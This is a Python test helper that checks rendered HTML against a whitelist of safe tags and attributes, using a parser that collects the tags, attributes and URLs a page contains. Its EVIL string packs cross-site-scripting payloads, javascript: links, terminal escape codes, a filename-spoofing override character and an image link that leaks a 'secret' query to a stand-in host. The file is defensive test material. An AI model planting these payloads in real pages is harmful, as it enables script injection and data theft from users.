"""What a page of HTML really has, against what a server could have put there."""

from __future__ import annotations

from html.parser import HTMLParser

EVIL = (
    "\"'><script>alert(1)</script><img src=x onerror=alert(2)><img src=http://127.0.0.1:9/evil.png>\n"
    "\x1b[2J\x1b[31mred\x1b]8;;http://127.0.0.1:9/evil\x07link"
    "\u202egnp.exe ![](http://127.0.0.1:9/evil.png?q=secret) [go](javascript:alert(1)) <http://127.0.0.1:9/evil>\n\n"
    "$\\href{javascript:alert(1)}{x}$ \\(\\style{background:url(http://127.0.0.1:9/evil.gif)}{y}\\)\n\n"
    '```mermaid\nflowchart LR\n  A@{ img: "http://127.0.0.1:9/evil.png" }\n```\n\n[r]: http://127.0.0.1:9/evil\n'
)
"""What means harm to whoever shows it."""

SAFE_TAGS = frozenset(
    (
        *("style", "div", "p", "pre", "span", "b", "small", "code", "br", "ul", "li", "details", "summary", "a"),
        *("table", "thead", "tbody", "tr", "th", "td", "img", "audio"),
    )
)
SAFE_ATTRIBUTES = {"class", "title", "open", "src", "alt", "controls", "download", "href", "style", "target", "rel"}


class Markup(HTMLParser):
    """The tags, attributes and URLs that a page really has."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.urls: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.urls += [value or "" for name, value in attrs if name in ("src", "href")]
